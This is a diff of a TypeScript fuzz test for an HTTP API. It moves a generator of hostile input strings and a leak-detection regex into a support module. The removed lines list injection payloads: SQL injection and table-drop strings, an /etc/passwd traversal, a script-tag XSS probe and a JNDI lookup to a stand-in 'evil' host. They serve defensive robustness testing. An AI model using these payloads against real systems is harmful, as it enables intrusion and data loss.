@@ -22,6 +22,7 @@ import { activityResultSchema, findResultSchema, lookupResultSchema } from '../s
 import { API_PATHS } from '../src/serve/openapi-document.ts'
 import { createHttpApp } from '../src/serve/http-app.ts'
 import { startHttpServer, type HttpServer } from '../src/serve/start-http-server.ts'
+import { hostile, LEAKS } from './support/hostile-strings.ts'
 import { databaseTargets, type TestDatabase } from './support/test-databases.ts'
 
 const RUNS = Number(process.env.HOSTILE_RUNS ?? 1000)
@@ -32,39 +33,6 @@ beforeAll(async () => {
   await generateCompany({ dir: join(dir, 'company'), people: 60, seed: 7 })
 })
 afterAll(() => rm(dir, { recursive: true, force: true }))
-
-/** Strings an attacker or a broken client would send: SQL, LIKE and regex metacharacters, control characters, odd Unicode, huge values. */
-const hostile = fc.oneof(
-  fc.string({ unit: 'binary', maxLength: 80 }),
-  fc.string({ unit: 'grapheme', maxLength: 40 }),
-  fc.constantFrom(
-    "' or 1=1 --",
-    "'; drop table entities; --",
-    '%',
-    '_',
-    '*',
-    '**',
-    '\\',
-    '$1',
-    'null',
-    '\u0000',
-    '\u202e',
-    'a'.repeat(5000),
-    `${'x'.repeat(300)}@example.com`,
-    '{"$where": "1"}',
-    '../../etc/passwd',
-    'salesforce:Contact:\' or \'1\'=\'1',
-    'slack:user:U0000000%',
-    '<script>alert(1)</script>',
-    '${jndi:ldap://evil}',
-    '+1 (555) 010-0000 ext. 99999999999999',
-    '-1',
-    '1e309',
-    'NaN',
-    '0x10',
-  ),
-  fc.tuple(fc.constantFrom('ada', 'smith', '@', 'acme.com', 'U0', '003'), fc.string({ unit: 'binary', maxLength: 10 })).map(([a, b]) => `${a}${b}`),
-)
 
 /** Stands for a real person's entity id in a parameter's base, filled in once the store is resolved. */
 const ENTITY = '<entity>'
@@ -83,9 +51,6 @@ const PARAMETERS: { path: string; parameter: string; base: Record<string, string
 ]
 
 const RESULT_SCHEMAS: Record<string, z.ZodType> = { [API_PATHS.find]: findResultSchema, [API_PATHS.lookup]: lookupResultSchema, [API_PATHS.activity]: activityResultSchema }
-
-/** Anything that would betray the database or the code behind the answer. */
-const LEAKS = /syntax error|relation "|column "|violates|pg_|postgres|kysely|at \/|\.ts:\d+|stack/i
 
 describe.each(databaseTargets())('hostile input over HTTP on the $name database', (target) => {
   let database: TestDatabase
